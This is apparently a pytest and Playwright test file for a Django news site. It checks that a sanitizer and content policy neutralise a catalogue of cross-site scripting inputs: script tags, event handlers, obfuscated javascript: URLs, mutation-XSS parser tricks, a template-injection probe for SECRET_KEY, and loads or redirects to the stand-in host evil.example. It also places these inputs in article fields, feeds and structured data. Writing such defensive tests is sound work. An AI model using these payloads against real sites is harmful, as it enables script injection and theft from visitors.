"""Hostile texts in a real browser, with the sanitizer and, behind the policy alone, without it.

The numbers are rows of the list of bad inputs that this site was built against. What exactly is
left of each text stands in test_body.py.
"""

import json
import re
from types import SimpleNamespace
from xml.etree import ElementTree

import pytest
from django.db import connection

from news.models import Article
from tests.machines import json_ld

pytestmark = [pytest.mark.ci, pytest.mark.browser, pytest.mark.django_db(transaction=True)]

EVIL = "https://evil.example"
TEXTS = {
    "X01": "<p>a</p><script>alert(1)</script>",
    "X02": "<img src=x onerror=alert(1)>",
    "X03": "<svg onload=alert(1)><circle/></svg>",
    "X04": '<a href="javascript:alert(1)">x</a>',
    "X05": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "X06": '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
    "X07": '<a href="&#1;  javascript:alert(1)">x</a>',
    "X08": '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    "X09": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "X10": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "X11": '<a href="vbscript:msgbox(1)">x</a>',
    "X12": f'<img src=/media/a.jpg srcset="javascript:alert(1) 1x, {EVIL}/p.gif 2x">',
    "X13": f'<p style="background:url({EVIL}/t.gif);position:fixed;inset:0">x</p>',
    "X14": f"<style>@import '{EVIL}/x.css';</style><p>k</p>",
    "X15": f'<base href="{EVIL}/"><p>k</p><img src="relative.png">',
    "X16": f'<meta http-equiv=refresh content="0;url={EVIL}/">',
    "X17": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "X18": '<object data="data:text/html,<script>alert(1)</script>"></object>'
    '<embed src="javascript:alert(1)">',
    "X19": f'<form action="{EVIL}/"><input name=pw>'
    '<button formaction="javascript:alert(1)">go</button><button>send</button></form>',
    "X20": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "X21": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "X22": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "X23": "<template><script>alert(1)</script></template>",
    "X24": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "X25": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "X26": f'<a href="{EVIL}" target=_blank>x</a>',
    "X27": f'<a id="__x" name="cookie" href="{EVIL}">x</a><img name="getElementById" src=x>',
    "X28": "<<script>script>alert(1)<</script>/script>",
    "X29": "<scr\0ipt>alert(1)</scr\0ipt>",
    "X30": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "X31": '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "X32": '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
    "X33": "<!--><img src=x onerror=alert(1)>-->",
    "X34": '<img src="//evil.example/pixel.gif">',
    "X35": '<img src="http://evil.example/a.jpg">',
    "X36": "{{ settings.SECRET_KEY }}{% load static %}",
    "X37": "<b>" * 100_000,
    "X38": "<" * 300_000,
    "X40": '<p>a</p><script src="https://evil.example/x.js"></script><script>alert(1)</script>',
    "photo": '<figure data-photo="0f0b8c5e-4c1d-4c7e-9a51-1f2f3a4b5c6d" data-alt="'
    '&quot;><img src=x onerror=alert(1)>" onclick=alert(1)><figcaption><script>alert(1)</script>'
    f'<img src="{EVIL}/p.gif" onerror=alert(1)></figcaption></figure>',
}
# A few of each kind; the whole list is gone through by `make audit`.
SAMPLE = ["X01", "X02", "X04", "X14", "X15", "X17", "X19", "X34", "X37", "X40", "photo"]
# No policy keeps a page from being left; here the sanitizer stands alone.
LEAVES_THE_PAGE = {"X16"}

TRY_EVERYTHING = """() => {
  const body = document.querySelector(".prose")
  for (const link of document.querySelectorAll("a"))
    if (body?.contains(link) && !/^(https?|mailto|tel|ftp):/.test(link.protocol ?? "")) {
      link.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}))
    }
  for (const button of body?.querySelectorAll("button") ?? []) button.click()
}"""
FOREIGN_SCRIPTS = """[...document.scripts]
  .filter((script) => script.src && new URL(script.src).origin !== location.origin)
  .map((script) => script.src)"""


@pytest.fixture
def visit(chromium, live_server, make_article):
    """Return a function that shows a text to a reader and tells what it did."""
    from playwright.sync_api import Error

    article = make_article()
    context = chromium.new_context()
    did = []
    context.on("weberror", lambda error: did.append(f"error {error.error.stack}"))
    context.on("dialog", lambda dialog: (did.append("dialog"), dialog.dismiss()))

    def pass_on(route):
        host = route.request.url.split("/")[2]
        if host != live_server.url.split("/")[2]:
            did.append(f"asked {host}")
            route.abort()
        elif route.request.resource_type in {"font", "stylesheet"}:
            route.abort()  # What the page looks like is of no matter here.
        else:
            route.continue_()

    context.route("http*://**", pass_on)

    def show(text, then="0"):
        with connection.cursor() as cursor:
            sql = "UPDATE news_article SET body = %s WHERE id = %s"
            cursor.execute(sql, [text.replace("\0", "\N{REPLACEMENT CHARACTER}"), article.pk])
        did.clear()
        page = context.pages[0] if context.pages else context.new_page()
        try:
            page.goto(live_server.url + article.get_absolute_url())
            did.extend(f"script of {source}" for source in page.evaluate(FOREIGN_SCRIPTS))
            page.evaluate(TRY_EVERYTHING)
            page.evaluate(then)
            # One round trip more, so that what was set off has happened.
            page.evaluate("new Promise((done) => setTimeout(done, 20))")
        except Error as error:
            did.append(f"left the page: {error.message}")
            page.close()  # It may be on its way still.
        did.extend(f"opened {other.url}" for other in context.pages if other != page)
        return list(did)

    yield show
    context.close()


@pytest.fixture(params=[pytest.param("sanitizer", marks=pytest.mark.audit), "policy alone"])
def layer(request, monkeypatch):
    if request.param == "policy alone":
        unchanged = SimpleNamespace(clean=lambda html: html)
        monkeypatch.setattr("news.body.CLEANER", unchanged)
        monkeypatch.setattr("news.body.tidy", lambda html: html)
    return request.param


def go_through(visit, layer, names):
    did = {name: visit(TEXTS[name]) for name in names}
    if layer == "policy alone":
        # That row shows that this test would see a page that asks another host.
        for name in LEAVES_THE_PAGE & set(names):
            assert "asked evil.example" in did.pop(name)
        # A text that is left open swallows the rest of the page, where our own scripts look for it.
        ours = re.compile("/static/ijmsite/(newsroom|inquiry)")
        did = {name: [w for w in all if not ours.search(w)] for name, all in did.items()}
        did["X40"] = [what for what in did["X40"] if what != f"script of {EVIL}/x.js"]
    assert {name: what for name, what in did.items() if what} == {}


def test_does_nothing_hostile(visit, layer):
    go_through(visit, layer, SAMPLE)
    # All that it looks for, it would have seen.
    assert visit("<p>a</p>", then="alert(1)") == ["dialog"]


@pytest.mark.audit
def test_does_nothing_hostile_whatever_the_text(visit, layer):
    go_through(visit, layer, TEXTS)


# X39: what people write outside of the text

NAMES = '"><script>alert(1)</script><img src=x onerror=alert(1)>{{ 7|add:1 }}'


@pytest.fixture
def hostile_names(press_contact, topic, make_article, make_photo):
    """An article of which every field is hostile, but for those that refuse it."""
    press_contact.name = press_contact.title = NAMES
    press_contact.save()
    topic.name = topic.description = NAMES[:60]
    topic.save()
    photo = make_photo(title=NAMES, alt=NAMES, caption=NAMES, credit=NAMES)
    body = (
        f'<p>a</p><figure data-photo="{photo.pk}" data-alt="x"><figcaption></figcaption></figure>'
    )
    return make_article(
        headline=NAMES,
        standfirst=NAMES,
        byline=NAMES,
        dateline=NAMES[:80],
        photo=photo,
        photo_alt=NAMES,
        topics=[topic],
        body=body.replace('"x"', '"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"'),
    )


@pytest.mark.parametrize("reader", ["public", pytest.param("staff", marks=pytest.mark.audit)])
def test_names_are_words_everywhere(
    chromium, live_server, client, django_user_model, hostile_names, topic, reader
):
    article, did = hostile_names, []
    photo = article.photo
    paths = {
        "public": ["/", "/news/", article.get_absolute_url(), topic.get_absolute_url(), "/press/"],
        "staff": [
            *(f"/admin/news/article/{end}" for end in ("", f"{article.pk}/change/")),
            *(f"/admin/news/article/{article.pk}/{end}/" for end in ("history", "delete")),
            *(f"/admin/photos/photo/{end}" for end in ("", f"{photo.pk}/change/")),
            f"/admin/photos/photo/{photo.pk}/delete/",
            f"/admin/news/topic/{topic.pk}/change/",
            "/admin/",
        ],
    }[reader]
    context = chromium.new_context()
    context.on("weberror", lambda error: did.append(f"error {error.error}"))
    context.on("dialog", lambda dialog: (did.append("dialog"), dialog.dismiss()))
    page = context.new_page()
    if reader == "staff":
        client.force_login(django_user_model.objects.create_superuser("pat@s.example"))
        cookie = client.cookies["sessionid"]
        context.add_cookies([{"name": cookie.key, "value": cookie.value, "url": live_server.url}])
    for path in paths:
        page.goto(live_server.url + path)
        assert page.locator("img[src='x'], script:text('alert(1)'):not([type])").count() == 0, path
        assert "8" not in (page.text_content("h1") or ""), path
    if reader == "staff":
        page.goto(f"{live_server.url}/admin/news/article/{article.pk}/change/")
        page.click(".prose-menubar button[aria-label='Photo']")
        page.get_by_role("dialog").get_by_role("button", name="alert(1)").click()
        page.wait_for_selector(".desk-dialog__picture")
    context.close()
    assert did == []
    assert Article.objects.count() == 1


MACHINES = ["/news/feed/", "/news/feed/rss/", "/news/topics/partnerships/feed/", "/sitemap.xml"]


@pytest.mark.parametrize("path", [*MACHINES, "/news-sitemap.xml"])
def test_names_are_words_for_machines(client, hostile_names, path):
    response = client.get(path)
    document = ElementTree.fromstring(response.content)

    assert response.status_code == 200
    assert b"<script" not in response.content
    if path != "/sitemap.xml":
        assert any(element.text == NAMES for element in document.iter())


def test_names_are_words_in_structured_data(client, hostile_names):
    html = client.get(hostile_names.get_absolute_url()).text
    data = json_ld(html)

    assert "<" not in data
    assert json.loads(data)
    assert "<script>alert" not in html
